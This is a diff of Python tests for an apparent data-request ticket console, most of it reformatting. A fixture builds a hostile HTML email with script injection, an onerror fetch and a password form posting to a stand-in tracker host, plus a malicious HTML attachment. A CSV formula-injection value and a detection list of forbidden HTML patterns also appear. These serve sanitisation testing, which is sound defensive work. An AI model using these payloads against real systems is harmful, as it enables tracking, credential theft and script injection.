@@ -22,18 +22,22 @@ def hostile_html_mail() -> bytes:
     mail["Message-ID"] = "<hostile-1@example.net>"
     mail.set_content("Please delete my account and all my data.")
     mail.add_alternative(
-        '<html><head><style>body{background:url(https://tracker.example/bg.png)}</style>'
+        "<html><head><style>body{background:url(https://tracker.example/bg.png)}</style>"
         '<script>document.title="pwned"</script></head><body>'
         '<p onclick="steal()">Please delete my account and all my data.</p>'
         '<img src="https://tracker.example/pixel.gif" onerror="fetch(\'https://tracker.example/x\')">'
         '<form action="https://tracker.example/login"><input name="password"></form>'
-        '<a href="javascript:alert(1)">click</a></body></html>', subtype="html", cte="quoted-printable")
-    mail.add_attachment(b"<html><script>alert(1)</script></html>", maintype="text", subtype="html",
-                        filename="invoice.html")
+        '<a href="javascript:alert(1)">click</a></body></html>',
+        subtype="html",
+        cte="quoted-printable",
+    )
+    mail.add_attachment(
+        b"<html><script>alert(1)</script></html>", maintype="text", subtype="html", filename="invoice.html"
+    )
     return mail.as_bytes(policy=policy.SMTP)  # CRLF line ends, as on the wire
 
 
-async def post_action(http, reference: str, action: str, **fields: str | list[str]):  # noqa: ANN001, ANN201
+async def post_action(http, reference: str, action: str, **fields: str | list[str]):
     page = await http.get(f"/tickets/{reference}")
     return await http.post(f"/tickets/{reference}/{action}", data={"csrf_token": csrf_of(page.text), **fields})
 
@@ -77,8 +81,12 @@ async def test_reject_needs_a_reason_and_records_it(config, db) -> None:
         assert (await post_action(http, reference, "reject", reason="wrong language")).status_code == 303
     detail = await show_ticket(db, reference)
     assert detail["drafts"][-1]["status"] == "rejected" and detail["drafts"][-1]["reason"] == "wrong language"
-    assert {"at": detail["events"][-2]["at"], "actor": "bob", "kind": "draft_rejected",
-            "detail": "wrong language"} in detail["events"]
+    assert {
+        "at": detail["events"][-2]["at"],
+        "actor": "bob",
+        "kind": "draft_rejected",
+        "detail": "wrong language",
+    } in detail["events"]
 
 
 async def test_extend_the_deadline_by_two_months_with_a_reason(config, db) -> None:
@@ -86,8 +94,9 @@ async def test_extend_the_deadline_by_two_months_with_a_reason(config, db) -> No
     before = (await show_ticket(db, reference))["due_at"]
     async with signed_in(console_app(config, db), db, "alice") as http:
         assert (await post_action(http, reference, "extend", months="2", reason="")).status_code == 409
-        assert (await post_action(http, reference, "extend", months="2",
-                                  reason="many requests at once")).status_code == 303
+        assert (
+            await post_action(http, reference, "extend", months="2", reason="many requests at once")
+        ).status_code == 303
     detail = await show_ticket(db, reference)
     assert detail["due_at"] > before
     event = detail["events"][-1]
@@ -97,8 +106,10 @@ async def test_extend_the_deadline_by_two_months_with_a_reason(config, db) -> No
 
 async def test_merge_moves_the_messages_and_closes_the_duplicate(config, db, service) -> None:
     for number in (1, 2):
-        raw = (f"From: Jo <jo@example.com>\r\nTo: {INBOX}\r\nSubject: delete my data {number}\r\n"
-               f"Message-ID: <dup-{number}@example.com>\r\n\r\nPlease delete all my personal data.\r\n").encode()
+        raw = (
+            f"From: Jo <jo@example.com>\r\nTo: {INBOX}\r\nSubject: delete my data {number}\r\n"
+            f"Message-ID: <dup-{number}@example.com>\r\n\r\nPlease delete all my personal data.\r\n"
+        ).encode()
         await service.send_async(raw)
     await service.settle()
     first, second = [t["reference"] for t in await list_tickets(db)]
@@ -114,8 +125,10 @@ async def test_merge_moves_the_messages_and_closes_the_duplicate(config, db, ser
 
 
 async def test_reclassify_writes_a_new_draft_for_the_new_intents(config, db, service) -> None:
-    raw = (f"From: Jo <jo@example.com>\r\nTo: {INBOX}\r\nSubject: my data\r\nMessage-ID: <rc@example.com>\r\n\r\n"
-           "Please delete all my personal data from your systems.\r\n").encode()
+    raw = (
+        f"From: Jo <jo@example.com>\r\nTo: {INBOX}\r\nSubject: my data\r\nMessage-ID: <rc@example.com>\r\n\r\n"
+        "Please delete all my personal data from your systems.\r\n"
+    ).encode()
     await service.send_async(raw)
     await service.settle()
     reference = (await list_tickets(db))[0]["reference"]
@@ -158,7 +171,9 @@ async def test_mail_html_is_shown_as_text_and_its_html_only_sanitised_in_a_sandb
         download = await http.get(f"/tickets/{reference}/messages/{message_id}/attachments/0")
     assert "Please delete my account and all my data." in page
     assert "tracker.example" not in page and "<script>document" not in page
-    assert f'<iframe sandbox="" referrerpolicy="no-referrer" loading="lazy" title="HTML" src="/tickets/{reference}' in page
+    assert (
+        f'<iframe sandbox="" referrerpolicy="no-referrer" loading="lazy" title="HTML" src="/tickets/{reference}' in page
+    )
     body = frame.text.lower()
     for forbidden in ("<script", "onerror", "onclick", "<form", "<input", "<style", "tracker.example", "javascript:"):
         assert forbidden not in body, forbidden
@@ -181,7 +196,7 @@ async def test_audit_log_filters_and_exports_csv(config, db) -> None:
     reference = await make_ticket(db)
     await make_ticket(db)
     async with signed_in(console_app(config, db), db, "ada", "admin") as http:
-        await post_action(http, reference, "reject", reason="=HYPERLINK(\"http://x\")")
+        await post_action(http, reference, "reject", reason='=HYPERLINK("http://x")')
         page = (await http.get("/audit?actor=ada")).text
         export = await http.get("/audit.csv?actor=ada")
         everything = await http.get("/audit.csv")
